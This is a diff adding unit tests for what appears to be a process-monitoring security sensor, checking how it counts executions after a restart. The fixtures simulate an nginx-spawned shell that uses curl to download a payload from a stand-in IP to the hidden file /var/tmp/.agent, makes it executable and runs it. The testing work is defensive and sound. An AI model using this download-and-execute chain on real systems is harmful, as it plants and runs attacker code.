@@ -126,6 +126,59 @@ describe("going on from a snapshot", () => {
   });
 });
 
+/** The live sensor, started anew: it tells of all that runs, by the same names as before and in events of their own. */
+function metAgain(told: readonly ActedEvent[]): readonly ActedEvent[] {
+  const executions = told.filter((event) => event.kind === "process.executed");
+  return executions.flatMap((event, index): readonly ActedEvent[] => {
+    const { pid, ppid = 1 } = event.process;
+    const startedAt = event.at - 3; // of the process, before the image
+    const parent = { ...event.process, pid: ppid, sensorId: `s${ppid}`, ppid: undefined, image: undefined };
+    const fork = { kind: "process.forked", child: pid, childSensorId: `s${pid}`, thread: false } as const;
+    return [
+      { ...fork, id: `again-${index}-forked`, at: startedAt, host: event.host, process: parent },
+      { ...event, id: `again-${index}`, at: startedAt, seenRunningAs: pid },
+    ];
+  });
+}
+
+describe("a sensor that is started anew", () => {
+  function named(events: readonly ActedEvent[]): readonly ActedEvent[] {
+    return events.map((event) => ({ ...event, process: { ...event.process, sensorId: `s${event.process.pid}` } }));
+  }
+
+  it("counts no execution twice that it told of before, and ends no process", () => {
+    const scene = new Scene();
+    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
+    const agent = "/var/tmp/.agent";
+    shell.fork().exec("/usr/bin/curl", `curl -o ${agent} http://203.0.113.7/a`).create(agent).chmod(agent);
+    const running = shell.fork().exec(agent, agent);
+    const before = named(scene.events);
+    const cut = before.length;
+    scene.wait(5_000);
+    running.chmod(agent, 0o700);
+    const after = named(scene.events).slice(cut);
+    const plain = watch([...before, ...after], [cut]);
+    const again = watch([...before, ...metAgain(before), ...after], [cut]);
+    expect(again.at(-1)?.executions).toHaveLength(1);
+    expect(again.at(-1)).toEqual(plain.at(-1));
+  });
+
+  it("counts one that began while nobody looked", () => {
+    const scene = new Scene();
+    const shell = scene.process({ image: "/usr/sbin/nginx" }).fork().exec("/usr/bin/dash", "sh -c x");
+    const agent = "/var/tmp/.agent";
+    shell.fork().exec("/usr/bin/curl", `curl -o ${agent} http://203.0.113.7/a`).create(agent).chmod(agent);
+    const waiting = shell.fork().exec("/usr/bin/sleep", "sleep 9");
+    const cut = scene.events.length;
+    waiting.exec(agent, agent);
+    const told = named(scene.events);
+    const [unseen] = told.slice(cut);
+    const met = metAgain(unseen === undefined ? [] : [unseen]).map((event) => ({ ...event, at: event.at - 4_000 }));
+    const said = watch([...told.slice(0, cut), ...met], [cut]);
+    expect(said.at(-1)?.executions).toHaveLength(1);
+  });
+});
+
 describe.skipIf(traces === undefined)("the recorded traces", () => {
   const names =
     traces === undefined ? [] : readdirSync(traces).filter((name) => existsSync(join(traces, name, "audit.log.gz")));
